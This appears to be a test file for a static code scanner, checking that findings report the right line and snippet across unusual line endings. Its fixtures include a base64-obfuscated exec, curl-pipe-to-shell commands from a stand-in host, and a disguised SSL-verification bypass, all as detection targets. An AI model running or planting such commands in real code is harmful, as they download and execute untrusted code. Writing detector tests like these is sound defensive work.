"""A finding's snippet is the text of the line its number names, whatever the line endings."""
import pytest

from codescan.analyze.document import Analyzer
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules

RULES = load_rules()
EXEC = 'exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="))'


@pytest.fixture(scope="module")
def analyzer():
    return Analyzer(RULES, Config(honour_suppressions=False))


@pytest.mark.parametrize("sep", ["\r", "\u2028", "\x85", "\x0b", "\x0c"])
def test_snippet_comes_from_the_numbered_line(analyzer, sep):
    # Lines are counted on "\n" (as the parser counts them); a lone separator stays inside its line.
    text = f"import base64{sep}# note{sep}cfg = 1\n{EXEC}\nz = 2\n"
    analysis = analyzer.analyze(Document("a.py", text.encode()))
    hits = [f for f in analysis.findings if f.rule_id == "exec-of-decoded-payload"]
    assert [f.line for f in hits] == [2]
    assert hits[0].snippet.startswith("exec(")


def test_crlf_snippets_lose_the_carriage_return(analyzer):
    text = f"import base64\r\n\r\n{EXEC}\r\n"
    hits = [f for f in analyzer.analyze(Document("a.py", text.encode())).findings
            if f.rule_id == "exec-of-decoded-payload"]
    assert [(f.line, f.snippet) for f in hits] == [(3, EXEC)]


def test_snippet_of_the_last_line_after_lone_carriage_returns_is_not_empty(analyzer):
    text = f"import base64\r\r\r\n{EXEC}"
    hits = [f for f in analyzer.analyze(Document("a.py", text.encode())).findings
            if f.rule_id == "exec-of-decoded-payload"]
    assert [(f.line, f.snippet) for f in hits] == [(2, EXEC)]


def test_makefile_line_numbers_and_snippets_with_lone_carriage_returns(analyzer):
    text = "# build\rall:\n\tcurl -s http://203.0.113.9/x.sh | sh\n"
    hits = [f for f in analyzer.analyze(Document("Makefile", text.encode())).findings
            if f.rule_id == "manifest-makefile-download-exec"]
    assert [(f.line, f.snippet) for f in hits] == [(2, "curl -s http://203.0.113.9/x.sh | sh")]


def test_folded_snippet_comes_from_the_numbered_line(analyzer):
    # A disguise only the folded view resolves (the semantic layer reports built names as plain code).
    text = "import ssl\r# x\nctx = getattr(ssl, '_create_' + 'unverified_context')()\n"
    hits = [f for f in analyzer.analyze(Document("f.py", text.encode())).findings if f.context == "folded"]
    assert [(f.rule_id, f.line) for f in hits] == [("ssl-unverified-context", 2)]
    assert hits[0].snippet == "ctx = getattr(ssl, '_create_' + 'unverified_context')()"
    assert hits[0].decoded == "ctx = ssl._create_unverified_context()"


def test_semantic_snippet_comes_from_the_numbered_line(analyzer):
    text = "import importlib\r# x\nm = importlib.import_module('o' + 's')\nm.system('curl http://x | sh')\n"
    hits = [f for f in analyzer.analyze(Document("f.py", text.encode())).findings
            if f.rule_id == "shell-pipe-to-interpreter"]
    assert [(f.line, f.snippet) for f in hits] == [(3, "m.system('curl http://x | sh')")]
